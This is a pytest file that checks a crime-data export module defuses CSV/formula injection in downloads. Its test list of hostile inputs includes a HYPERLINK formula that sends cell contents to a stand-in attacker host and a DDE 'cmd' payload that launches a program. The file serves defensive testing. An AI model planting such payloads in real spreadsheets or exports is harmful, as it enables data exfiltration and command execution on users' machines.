"""Downloads and exports are safe to open in a spreadsheet (CSV/formula injection)."""
from __future__ import annotations

import csv
import io

import polars as pl
import pytest

from csp import disclosure, export, queries
from csp.queries import Column, Result

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=cmd|' /C calc'!A0", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
]
HARMLESS = ["Burglary", "Anti-social behaviour", "E05000901", "", "1+1", "a=b", "St Botolph's"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_triggers_are_defused(value):
    assert export.defuse(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_ordinary_text_is_left_alone(value):
    assert export.defuse(value) == value


def fake_result(frame: pl.DataFrame, suppressed: pl.DataFrame | None = None) -> Result:
    q = queries.get("crime_by_type")
    return Result(q, frame, suppressed if suppressed is not None else pl.DataFrame(), 5, {"crime": "v000001"})


def test_csv_download_has_no_live_formula_and_keeps_numbers():
    frame = pl.DataFrame({"crime_type": HOSTILE + HARMLESS, "crimes": list(range(len(HOSTILE + HARMLESS)))})
    text = export.to_csv(fake_result(frame))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE) + len(HARMLESS)
    for row in rows:
        cell = row["crime_type"]
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert [r["crimes"] for r in rows] == [str(i) for i in range(len(rows))]  # numbers untouched
    assert rows[0]["crime_type"] == "'" + HOSTILE[0]


def test_suppressed_cells_read_suppressed_in_the_download():
    frame = pl.DataFrame({"crime_type": ["A", "B"], "crimes": [None, 12]})
    mask = pl.DataFrame({"crimes": [True, False]})
    rows = list(csv.DictReader(io.StringIO(export.to_csv(fake_result(frame, mask)))))
    assert [r["crimes"] for r in rows] == [disclosure.SUPPRESSED_LABEL, "12"]


def test_real_export_of_hostile_category_is_defused(tiny):
    # A crime type planted in the data (as an upload could) comes out defused through the CLI path.
    from conftest import publish_frame, crime_frame

    frame = crime_frame().with_columns(
        pl.when(pl.col("crime_type") == "Drugs").then(pl.lit("=HYPERLINK(\"x\")")).otherwise(pl.col("crime_type")).alias("crime_type"))
    publish_frame("crime", frame)
    queries.clear_cache()
    text = export.to_csv(queries.run(tiny["users"]["police"], "crime_by_type"))
    assert "'=HYPERLINK" in text and "\n=HYPERLINK" not in text
